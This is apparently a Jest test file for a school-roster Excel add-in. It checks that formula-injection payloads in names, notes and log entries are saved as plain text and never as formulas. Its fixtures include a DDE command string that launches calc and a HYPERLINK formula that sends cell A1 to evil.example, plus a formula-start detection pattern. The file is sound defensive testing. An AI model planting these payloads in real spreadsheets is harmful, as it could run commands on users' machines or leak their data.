/**
 * Text built to attack: names, notes, class labels, mentors and log entries that start with = + - @,
 * a tab or a carriage return. They flow through the whole upkeep (roster check -> 校验结果, 结对帮扶,
 * 提醒事项, 统计汇总, 工作报告) and are written by the file port and by the Office port (over the
 * double). Every such text must land as a plain string with its exact text, never as a formula.
 */
import * as XLSX from '@e965/xlsx';
import { strFromU8, unzipSync } from 'fflate';
import '../../src/core/i18n/all';
import { createTymeCalendar } from '../../src/core/calendar/tyme';
import type { CellValue } from '../../src/core/cells';
import { checkRoster, findingsSheetPlan, markOps } from '../../src/core/roster';
import { GENERATED_SHEETS, SHEETS } from '../../src/core/sheets';
import type { WorkbookSnapshot } from '../../src/core/snapshot';
import { planMaintenance } from '../../src/core/workflow';
import { openXlsx } from '../../src/workbook/file';
import { createOfficePort } from '../../src/workbook/office';
import { workbookBytes, worksheet, type Cell } from '../fixtures/roster-gen';
import { createOfficeDouble } from '../office-double';

jest.setTimeout(300_000);

const TODAY = '2026-11-30';

/** Payloads from CSV/formula-injection write-ups, each as a whole cell. */
const NAMES = ['=HYPERLINK("http://x","点我")', '+1+1', '-2', '@SUM(A1)', '\t=1', '\r=1'];
const MENTOR_NAMES = ["=cmd|' /C calc'!A0", '+老师', '-王老师'];
const CLASS = '=三(1)班';
const NOTE = '@SUM(A1:A9)';
const LOG_TEXT = '=HYPERLINK("http://evil.example/?q="&A1,"详情")';
const SCHOOL = '=学校';
const ALL_ATTACKS = [...NAMES, ...MENTOR_NAMES, CLASS, NOTE, LOG_TEXT, SCHOOL];
/** Pieces that only a user's text could put into a formula. */
const PAYLOAD_MARKS = ['http://x', 'SUM(A1', 'cmd|', '1+1', 'evil.example', '学校', '老师'];

const FORMULA_START = /^[=+\-@\t\r]/;

function attackWorkbook(): Uint8Array {
  const roster: Cell[][] = [
    ['序号', '姓名', '性别', '出生日期', '班级', '家庭住址', '监护人姓名', '与学生关系', '监护人电话', '是否重点帮扶', '备注'],
    [1, NAMES[0], '男', { date: '2017-03-05' }, '三(1)班', '青山镇石桥村3组', '张大山', '祖父', '13812345678', '是', NOTE],
    [2, NAMES[1], '女', { date: '2017-06-01' }, '三(1)班', '=青山镇', '-李秀英', '祖母', '13912345678', '', ''],
    [3, NAMES[2], '男', { date: '2015-02-02' }, '五(2)班', '青山镇柳树村1组', '王春花', '外婆', '15012345678', '是', ''],
    [4, NAMES[3], '女', { date: '2015-08-08' }, '五(2)班', '青山镇柳树村2组', '赵德明', '祖父', '15112345678', '', NOTE],
    [5, NAMES[4], '男', { date: '2019-10-10' }, '一(1)班', '青山镇石桥村7组', '陈桂兰', '祖母', '18712345678', '', ''],
    [6, NAMES[5], '女', { date: '2017-01-10' }, CLASS, '青山镇石桥村8组', '周阿姨', '祖母', '18712345679', '是', ''],
  ];
  const mentors: Cell[][] = [
    ['姓名', '类别', '班级', '电话', '住址', '可帮扶人数', '备注'],
    [MENTOR_NAMES[0], '班主任', '三(1)班', '', '', 3, ''],
    [MENTOR_NAMES[1], '班主任', '五(2)班', '', '', 3, ''],
    [MENTOR_NAMES[2], '班主任', '一(1)班', '', '', 3, NOTE],
  ];
  const log: Cell[][] = [
    ['日期', '学生', '班级', '类型', '对象', '记录人', '内容', '需跟进', '跟进期限'],
    ['2026-11-02', NAMES[0], '三(1)班', '谈心', '学生', MENTOR_NAMES[0], LOG_TEXT, '是', '2026-12-05'],
    ['2026-11-10', NAMES[2], '五(2)班', '家访', '监护人', MENTOR_NAMES[1], '+需要跟进', '是', '2026-11-20'],
    ['2026-11-12', NAMES[3], '五(2)班', '谈心', '学生', '@记录人', '-情绪低落', '', ''],
  ];
  const settings: Cell[][] = [
    ['设置项', '值', '说明'],
    ['学校名称', SCHOOL, ''],
  ];
  return workbookBytes([
    { name: '花名册', sheet: worksheet(roster) },
    { name: SHEETS.mentors, sheet: worksheet(mentors) },
    { name: SHEETS.log, sheet: worksheet(log) },
    { name: SHEETS.settings, sheet: worksheet(settings) },
  ]);
}

/** The roster check's own writes, then the whole upkeep: the plans a pane run applies. */
function plansFor(snapshot: WorkbookSnapshot) {
  const check = checkRoster(snapshot, { today: TODAY });
  const maintenance = planMaintenance(snapshot, { today: TODAY, lang: 'zh-CN', calendar: createTymeCalendar() });
  return [{ ops: [findingsSheetPlan(check, 'zh-CN', TODAY), ...markOps(check, 'zh-CN')] }, maintenance.plan];
}

describe('through the file port, read back with SheetJS', () => {
  let parts: Record<string, Uint8Array>;
  let book: XLSX.WorkBook;
  let sheetPaths: Map<string, string>;

  beforeAll(async () => {
    const port = openXlsx(attackWorkbook());
    const before = await port.read();
    for (const plan of plansFor(before)) await port.apply(plan);
    const saved = port.save();
    parts = unzipSync(saved);
    book = XLSX.read(saved, { type: 'array', cellFormula: true, dense: false });
    // Sheet name -> part path, from workbook.xml and its relationships.
    const wbXml = strFromU8(parts['xl/workbook.xml']);
    const rels = strFromU8(parts['xl/_rels/workbook.xml.rels']);
    sheetPaths = new Map();
    for (const m of wbXml.matchAll(/<sheet\b[^>]*\bname="([^"]*)"[^>]*\br:id="([^"]+)"/g)) {
      const target =
        new RegExp(`<Relationship\\b[^>]*Id="${m[2]}"[^>]*Target="([^"]+)"`).exec(rels)?.[1] ??
        new RegExp(`<Relationship\\b[^>]*Target="([^"]+)"[^>]*Id="${m[2]}"`).exec(rels)?.[1];
      if (target) sheetPaths.set(m[1].replace(/&amp;/g, '&'), target.startsWith('/') ? target.slice(1) : `xl/${target}`);
    }
  });

  it('writes the generated sheets', () => {
    for (const name of [SHEETS.findings, SHEETS.pairing, SHEETS.reminders, SHEETS.summary]) expect(book.SheetNames).toContain(name);
  });

  it("no <f> element holds user text: formulas are the add-in's own links only", () => {
    const formulas: string[] = [];
    for (const [name, p] of sheetPaths) {
      const xml = strFromU8(parts[p]);
      for (const m of xml.matchAll(/<f\b[^>]*>([\s\S]*?)<\/f>/g)) formulas.push(`${name}: ${m[1]}`);
    }
    expect(sheetPaths.size).toBe(book.SheetNames.length);
    for (const f of formulas) for (const mark of PAYLOAD_MARKS) expect([f, f.includes(mark)]).toEqual([f, false]);
    for (const f of formulas) for (const attack of ALL_ATTACKS) expect([f, f.includes(attack.trim())]).toEqual([f, false]);
  });

  it('every written cell whose text starts like a formula is a string cell without a formula', () => {
    const offenders: string[] = [];
    let seen = 0;
    for (const name of book.SheetNames) {
      const ws = book.Sheets[name];
      for (const addr of Object.keys(ws)) {
        if (addr.startsWith('!')) continue;
        const c = ws[addr] as XLSX.CellObject;
        if (typeof c.v !== 'string' || !FORMULA_START.test(c.v)) continue;
        seen++;
        if (c.t !== 's' || c.f !== undefined) offenders.push(`${name}!${addr} t=${c.t} f=${c.f}`);
      }
    }
    expect(offenders).toEqual([]);
    expect(seen).toBeGreaterThan(10);
  });

  it('the attack texts reach the generated sheets with their exact text', () => {
    const generated = new Set<string>();
    for (const name of GENERATED_SHEETS) {
      const ws = book.Sheets[name];
      if (!ws) continue;
      for (const addr of Object.keys(ws)) if (!addr.startsWith('!') && typeof ws[addr].v === 'string') generated.add(ws[addr].v as string);
    }
    // Children's names and mentors' names are listed in 结对帮扶 and 提醒事项 as they were typed
    // (a leading tab or CR may be trimmed as whitespace, which also disarms it).
    const expectText = (s: string) => [s, generated.has(s) || generated.has(s.trim())];
    for (const s of [...NAMES, ...MENTOR_NAMES.slice(0, 2)]) expect(expectText(s)).toEqual([s, true]);
  });

  it('the file port also re-reads them as the same plain text', async () => {
    const snapshot = await openXlsx(new Uint8Array(XLSX.write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer)).read();
    const values = new Set<CellValue>(snapshot.sheets.flatMap((s) => s.values.flat()));
    expect(values.has(NAMES[0])).toBe(true);
    expect(values.has(MENTOR_NAMES[0])).toBe(true);
  });
});

describe('through the Office port over the double', () => {
  it('writes attack texts as values (quoted), never as formulas', async () => {
    const source = await openXlsx(attackWorkbook()).read();
    const d = createOfficeDouble({ api: 20 });
    // The workbook as the school typed it: text cells entered with Excel's quote prefix where needed.
    for (const s of source.sheets) {
      const typed = s.values.map((line) =>
        line.map((v) => (typeof v === 'string' && (FORMULA_START.test(v) || /^\d/.test(v)) ? `'${v}` : (v as string | number | boolean | null))),
      );
      d.state.addSheet(s.name).put(s.origin.row, s.origin.col, typed);
    }
    const port = createOfficePort(d.excel, d.office);
    const before = await port.read();
    expect(before.sheets.find((s) => s.name === '花名册')!.values.flat()).toContain(NAMES[0]);
    for (const plan of plansFor(before)) await port.apply(plan);

    const offenders: string[] = [];
    const strings = new Set<string>();
    for (const sheet of d.state.sheets) {
      for (const [r, line] of sheet.cells) {
        for (const [c, cell] of line) {
          if (cell.f !== undefined) {
            for (const mark of PAYLOAD_MARKS) if (cell.f.includes(mark)) offenders.push(`${sheet.name} r${r}c${c} formula ${cell.f}`);
          }
          if (typeof cell.v === 'string') {
            if (GENERATED_SHEETS.includes(sheet.name)) strings.add(cell.v);
            if (FORMULA_START.test(cell.v) && (cell.f !== undefined || cell.t !== 'String')) offenders.push(`${sheet.name} r${r}c${c} ${cell.t}`);
          }
        }
      }
    }
    expect(offenders).toEqual([]);
    for (const s of [...NAMES, ...MENTOR_NAMES.slice(0, 2)]) expect([s, strings.has(s) || strings.has(s.trim())]).toEqual([s, true]);
  });
});
